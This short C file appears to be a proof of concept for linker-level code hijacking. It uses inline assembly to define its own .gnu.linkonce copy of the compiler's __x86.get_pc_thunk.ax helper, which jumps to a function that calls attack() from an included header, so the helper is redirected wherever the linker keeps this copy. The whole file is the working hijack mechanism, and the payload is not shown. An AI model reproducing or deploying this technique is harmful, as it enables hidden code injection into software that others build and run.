#include "attack.h"
__asm__(".section .gnu.linkonce.t.__x86.get_pc_thunk.ax,\"ax\",@progbits\n.globl __x86.get_pc_thunk.ax\n__x86.get_pc_thunk.ax: jmp own\n.text");
void own(void) { attack(); }
#include "body.h"
